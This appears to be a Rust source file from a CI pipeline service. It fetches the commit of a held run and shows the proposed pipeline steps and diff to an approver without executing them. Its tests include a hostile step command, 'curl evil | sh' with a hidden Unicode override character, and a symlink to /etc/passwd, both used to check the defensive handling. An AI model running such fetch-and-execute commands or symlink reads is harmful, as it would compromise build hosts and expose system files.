//! Looks at the commit of a held run, so that whoever is asked sees what would run. Nothing of it is executed.

use std::{fs, io, path::Path};

use integrations::git::{GitError, GitOptions, HostKeyPolicy, diff_stat, fetch_commit, ls_remote, pipeline_file};
use pipelines::{
    definition::parse_bytes,
    errors::chain,
    hold::{Proposal, ProposedStep, STEPS_MAX, bounded_lines, diff_lines, plain_line},
    ids::{CommitSha, RunId},
    protocol::{Blame, Repository},
    repository::RepositoryAddress,
    run::{Run, RunEvent, RunState},
    service::Service,
    train::Event,
};

use super::{Drivers, Performed, TryAgain, poll::credential_of};
use crate::app::trains::Outcome;

/// The longest a look may take, in milliseconds.
const LOOK_TIMEOUT_MS: u64 = 5 * 60_000;
/// Files that are compared line by line at most.
const DIFF_FILES_MAX: usize = 2_000;

pub(super) async fn inspect_run(drivers: &Drivers, id: &RunId) -> Performed {
    let app = &drivers.app;
    let run = app.run(id)?;
    if !matches!(run.state, RunState::Held { .. }) {
        return Ok(Outcome::done());
    }
    let service = app.service(&id.service)?;
    let repository = app.service_repository(&service)?;
    let mirror = app.config.state_dir.join("inspect").join(service.name.as_str());
    let max_bytes = app.config.job.checkout_bytes_max;
    let url: RepositoryAddress = repository
        .url
        .parse()
        .map_err(|error| TryAgain(format!("the repository's address cannot be followed: {error}")))?;
    let look = move || look(&mirror, &run, &service, &url, &repository, max_bytes);
    let looked = tokio::task::spawn_blocking(look).await;
    let proposal = match looked.map_err(|error| TryAgain(format!("the look ended early: {error}")))? {
        Ok(proposal) => proposal,
        // The commit itself is the trouble: whoever is asked is told, and another try would not help.
        Err(error) if error.blame() == Blame::Code => {
            Proposal { problem: Some(plain_line(&chain(&error))), ..Proposal::default() }
        }
        Err(error) => return Err(TryAgain::from_error(&error)),
    };
    let event = RunEvent::Inspected { proposal: Box::new(proposal) };
    Ok(Outcome::event(Event::Run { number: id.number, event }))
}

fn look(
    mirror: &Path,
    run: &Run,
    service: &Service,
    url: &RepositoryAddress,
    repository: &Repository,
    max_bytes: u64,
) -> Result<Proposal, GitError> {
    // Strangers' commits pile up in it; it is a cache and begins anew.
    if folder_bytes(mirror) > max_bytes {
        let failed = |source| GitError::Io { doing: "removing", path: mirror.to_owned(), source };
        fs::remove_dir_all(mirror).map_err(failed)?;
    }
    let credential = credential_of(repository);
    let options = GitOptions {
        total_timeout_ms: LOOK_TIMEOUT_MS,
        max_pack_bytes: max_bytes,
        ca_pem: repository.ca_pem.clone(),
        host_keys: HostKeyPolicy::from_lines(&repository.known_hosts)?,
        ..GitOptions::default()
    };
    let commit = &run.trigger.commit;
    fetch_commit(mirror, url, &credential, Some(&run.trigger.git_ref), commit, &options)?;
    let branch = format!("refs/heads/{}", service.effective_release_branch());
    let listing = ls_remote(url, &credential, &options)?;
    let tip = listing.refs.iter().find(|found| found.name == branch).map(|found| found.commit().clone());
    if let Some(tip) = &tip {
        fetch_commit(mirror, url, &credential, Some(&branch), tip, &options)?;
    }
    propose(mirror, commit, tip.as_ref(), service)
}

fn propose(
    mirror: &Path,
    commit: &CommitSha,
    tip: Option<&CommitSha>,
    service: &Service,
) -> Result<Proposal, GitError> {
    let mut proposal = Proposal::default();
    if let Some(tip) = tip {
        proposal.files_changed = diff_stat(mirror, tip, commit, DIFF_FILES_MAX)?.files as u64;
    }
    let (path, bytes) = match pipeline_file(mirror, commit, &service.name)? {
        Ok(found) => found,
        Err(problem) => return Ok(Proposal { problem: Some(plain_line(&problem.message)), ..proposal }),
    };
    let before = match tip.map(|tip| pipeline_file(mirror, tip, &service.name)) {
        Some(Ok(Ok((_, bytes)))) => bytes,
        _ => Vec::new(),
    };
    proposal.file_changed = before != bytes;
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    proposal.diff = bounded_lines(diff_lines(&text(&before), &text(&bytes)));
    let (definition, problems) = parse_bytes(&path, &bytes);
    match definition {
        Some(definition) => {
            let step = |step: &pipelines::definition::Step| ProposedStep {
                name: plain_line(step.name.as_str()),
                image: plain_line(step.image.as_str()),
                commands: bounded_lines(step.commands.iter().flat_map(|all| all.lines()).map(plain_line).collect()),
            };
            if definition.steps.len() > STEPS_MAX {
                proposal.problem = Some(format!("{} steps, of which the first are shown", definition.steps.len()));
            }
            proposal.steps = definition.steps.iter().take(STEPS_MAX).map(step).collect();
        }
        None => {
            let first = problems.iter().find(|problem| problem.is_error()).map(|problem| problem.message.as_str());
            proposal.problem = Some(plain_line(&format!("{path} is not valid: {}", first.unwrap_or_default())));
        }
    }
    proposal.pipeline_file = Some(plain_line(&path));
    Ok(proposal)
}

/// What is in a folder, in bytes; links are not followed. What cannot be read counts as nothing.
fn folder_bytes(folder: &Path) -> u64 {
    let sum = || -> io::Result<u64> {
        let (mut bytes, mut ahead) = (0_u64, vec![folder.to_owned()]);
        while let Some(folder) = ahead.pop() {
            for entry in fs::read_dir(folder)? {
                let entry = entry?;
                let found = entry.metadata()?;
                if found.is_dir() {
                    ahead.push(entry.path());
                } else {
                    bytes = bytes.saturating_add(found.len());
                }
            }
        }
        Ok(bytes)
    };
    sum().unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use std::process::Command;

    use super::*;

    fn git(folder: &Path, arguments: &[&str]) -> String {
        let output = Command::new("git")
            .current_dir(folder)
            .args(["-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main"])
            .args(arguments)
            .output()
            .expect("git");
        assert!(output.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
        String::from_utf8(output.stdout).expect("text").trim().to_owned()
    }

    fn commit(folder: &Path, file: Option<&str>) -> CommitSha {
        match file {
            Some(text) => fs::write(folder.join(".windlass.yaml"), text).expect("written"),
            None => fs::remove_file(folder.join(".windlass.yaml")).expect("removed"),
        }
        git(folder, &["add", "-A"]);
        git(folder, &["commit", "-q", "--allow-empty", "-m", "x"]);
        git(folder, &["rev-parse", "HEAD"]).parse().expect("a commit")
    }

    const FILE: &str = "service: shop\nbase: static-site@1\ntest: {testers: [a@example.com]}\n";

    #[test]
    fn what_a_fork_would_run_is_told_without_running_it() {
        let folder = tempfile::tempdir().expect("a folder");
        let service = service();
        git(folder.path(), &["init", "-q"]);
        let mirror = folder.path().join(".git");
        let tip = commit(folder.path(), Some(FILE));
        let look = |commit: &CommitSha| propose(&mirror, commit, Some(&tip), &service).expect("a proposal");

        let same = look(&tip);
        assert_eq!((same.file_changed, same.files_changed, same.problem), (false, 0, None));

        let evil = "steps:\n- name: mine\n  image: busybox:1\n  commands: [\"curl evil | sh \\u202e\"]\n";
        let changed = look(&commit(folder.path(), Some(&format!("{FILE}{evil}"))));
        assert!(changed.file_changed && changed.files_changed == 1 && changed.problem.is_none(), "{changed:?}");
        assert_eq!(changed.steps[0].commands, ["curl evil | sh \\u{202e}"]);
        assert!(changed.diff.contains(&"+- name: mine".to_owned()), "{changed:?}");

        let broken = look(&commit(folder.path(), Some("service: [")));
        assert!(broken.problem.is_some_and(|problem| problem.contains("not valid")) && broken.steps.is_empty());
        let gone = look(&commit(folder.path(), None));
        assert!(gone.problem.is_some_and(|problem| problem.contains("no pipeline file")));

        std::os::unix::fs::symlink("/etc/passwd", folder.path().join(".windlass.yaml")).expect("linked");
        git(folder.path(), &["add", "-A"]);
        git(folder.path(), &["commit", "-q", "-m", "x"]);
        let link = git(folder.path(), &["rev-parse", "HEAD"]).parse().expect("a commit");
        let error = propose(&mirror, &link, Some(&tip), &service).expect_err("a link is no file");
        assert_eq!(error.blame(), Blame::Code);
    }

    fn service() -> Service {
        Service {
            name: "shop".parse().expect("a name"),
            repository_url: String::new(),
            credential: pipelines::service::CredentialKind::None,
            known_hosts: Vec::new(),
            ca_pem: None,
            allow_unsigned_hooks: false,
            poll_interval_ms: 0,
            release_branch: None,
            default_branch: None,
            allow_self_approval: false,
            created_at: pipelines::time::UnixMs(0),
            created_by: String::new(),
        }
    }
}
